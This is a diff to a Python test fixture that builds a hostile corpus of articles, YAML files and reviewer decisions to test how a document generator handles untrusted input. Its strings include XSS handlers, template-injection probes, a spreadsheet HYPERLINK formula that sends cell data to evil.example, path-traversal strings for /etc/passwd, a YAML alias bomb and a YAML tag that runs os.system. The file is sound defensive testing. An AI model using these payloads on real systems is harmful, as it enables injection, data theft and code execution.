@@ -6,13 +6,12 @@ carries what some tool on the way to a page or a file might obey.
 
 from __future__ import annotations
 
+import json
+import os
 from dataclasses import dataclass
-from typing import TYPE_CHECKING
+from pathlib import Path
 
 import yaml
-
-if TYPE_CHECKING:
-    from pathlib import Path
 
 MARKUP = (
     "<script>alert(1)</script><img src=x onerror=alert(2)>[链](javascript:alert(3))"
@@ -26,19 +25,31 @@ SHEETS = '=HYPERLINK("http://evil.example/?"&A1) @SUM(1) +1+1 -2'
 ENDS = "]]></script></title></svg></textarea><!--"
 TYPST = "#let x = 1 $y$ #include \"/etc/hostname\" #read('/etc/hostname') = 题 <标> @引 \\ _a_ *b*"
 PATHS = "../../etc/passwd /etc/passwd C:\\Windows\\win.ini file:///etc/passwd \\\\host\\share"
-UNSEEN = "右\u202e左\u2066中\u2069\u200b\u200d\ufeff\ue000末"
-FLOOD = "e" + "\u0301\u0489" * 1_000
+UNSEEN = "右\u202e左\u2066中\u2069\u200b\u200d\ufeff\ue000\u061c\u034f\U000f0000\U0010fffd\U000e0041\x1b[31m末"
+PILE = "e" + "\u0301\u0489" * 200
+FLOOD = "e" + "\u0301\u0489" * 1_000 + "字" + "\u0338" * 500 + "\u05d0" + "\u20dd" * 300
 NOON = "9" * 10_000
-_PIECES = (MARKUP, SYNTAX, SHEETS, ENDS, TYPST, PATHS, UNSEEN)
+_PIECES = (MARKUP, SYNTAX, SHEETS, ENDS, TYPST, PATHS, UNSEEN, PILE)
 HOSTILE = " ".join(_PIECES)
 
 MEASURE = "<b onclick=alert(6)>{{ 6*6 }}一窗通办</b>"
+MEASURES = (
+    "<u onclick=alert(10)>蓝鲸行动",
+    "一企一策{{7*7}}",
+    "{% raw %}直通车[TOC]",
+    "=蓝鲸|计划@SUM(1)",
+    "javascript:../..蓝鲸计划",
+    f"#蓝鲸$行动]]></script>{PILE}",
+)
+"""Each has a page of its own."""
 PARK = "<i onmouseover=alert(7)>{% x %}"
 DEVICES = ("con", "aux", "nul", "prn", "com1", "lpt9")
 """Names that Windows keeps for devices, with whatever ending."""
 
 _BODY = """
 今年以来，{park}推行“{measure}”，办理项目{n}个，审批用时由15个工作日压缩至{n}个工作日。
+
+{park}推出“{own}”改革，设立服务专窗{n}个。
 
 {hostile}办件{n}件。
 
@@ -62,6 +73,7 @@ _WORDS = {
     6: ("湖边制作渔网", "设计皮影玩具", "运输冷冻血浆"),
 }
 """What tells the articles apart: the rest of their words is much the same."""
+_NO_NAME = b"\xff\x1b[31m\n.md"
 _REFUSED = {
     "bomb.md": "---\na: &a [x, x]\nb: &b [*a, *a]\ntitle: [*b, *b]\n---\n文。\n",
     "tag.md": "---\ntitle: !!python/object/apply:os.system ['touch pwned']\n---\n文。\n",
@@ -98,6 +110,7 @@ def write_corpus(corpus: Path) -> None:
     parks = [
         {"id": "con", "name": "柳江经开区", "level": HOSTILE, "place": HOSTILE},
         {"id": "aux", "name": f"{PARK}绍兴经开区", "aliases": ["绍兴经开区"], "level": ENDS},
+        {"id": "lpt1", "name": f"青屏{PILE}高新区{UNSEEN}", "aliases": [HOSTILE], "parent": "con"},
     ]
     theme = {"id": "nul", "name": HOSTILE, "question": HOSTILE, "covers": [HOSTILE]}
     _write(corpus / "parks.yml", yaml.safe_dump({"title": HOSTILE, "parks": parks}))
@@ -115,8 +128,33 @@ def write_corpus(corpus: Path) -> None:
         _write(corpus / name, _article(number, park))
     for name, text in _REFUSED.items():
         _write(corpus / name, text)
+    Path(os.fsdecode(bytes(corpus) + b"/" + _NO_NAME)).write_text("---\ntitle: [\n---\n")
     line = f"柳江经开区办件12件。{HOSTILE}" + "企业普遍感到满意 " * 40_000
     _write(corpus / "long.md", _head(9, "柳江经开区") + line)
+    _write(corpus / "decisions.yml", json.dumps(_decisions(corpus), ensure_ascii=False))
+
+
+def _decisions(corpus: Path) -> list[dict[str, object]]:
+    """A person confirms, corrects, rejects and adds; whatever may be typed is hostile."""
+    from generator.comparing.identity import fact_ids
+    from generator.extracting.extract import extract
+    from generator.extracting.lexicon import Lexicon
+    from generator.reading.corpus import read_corpus
+
+    read = read_corpus(corpus)
+    article = next(article for article in read.articles if article.id == "com1.txt")
+    facts = extract(article, Lexicon.load(), read.registry.parks).facts
+    ids = fact_ids(facts)
+    signed: dict[str, object] = {"who": HOSTILE, "when": "2024-10-08", "why": HOSTILE}
+    words = {"indicator": f"件数{HOSTILE}", "unit": f"件{MARKUP}", "parks": ["柳江经开区"]}
+    reading = {"value": 7, "role": "level", "theme": "approval", **words}
+    return [
+        {"fact": ids[0], "action": "confirm", **signed},
+        {"fact": ids[1], "action": "correct", "change": {**words, "speaker": HOSTILE}, **signed},
+        {"fact": ids[2], "action": "withdraw", **signed},
+        {"action": "add", "article": article.id, "quote": "设立服务专窗7个", "surface": "7个",
+         "reading": reading, **signed},
+    ]  # fmt: skip
 
 
 def _themes() -> list[dict[str, object]]:
@@ -134,6 +172,7 @@ def _article(number: int, park: str) -> str:
         park=park,
         n=number + 4,
         measure=MEASURE,
+        own=MEASURES[number - 1],
         hostile=_PIECES[number % len(_PIECES)],
         ends=ENDS,
         told="\n\n".join(f"{word}的企业到窗口办理。" for word in _WORDS[number]),
@@ -146,7 +185,10 @@ def _head(number: int, park: str) -> str:
     fields = {
         "title": f"{HOSTILE}{number}",
         "publisher": HOSTILE,
+        "carrier": HOSTILE,
         "authors": [HOSTILE],
+        "editors": [HOSTILE],
+        "origin": [HOSTILE],
         "published": f"2024-05-0{number}",
         "url": 'https://example.org/"><script>alert(5)</script>'
         if number % 2
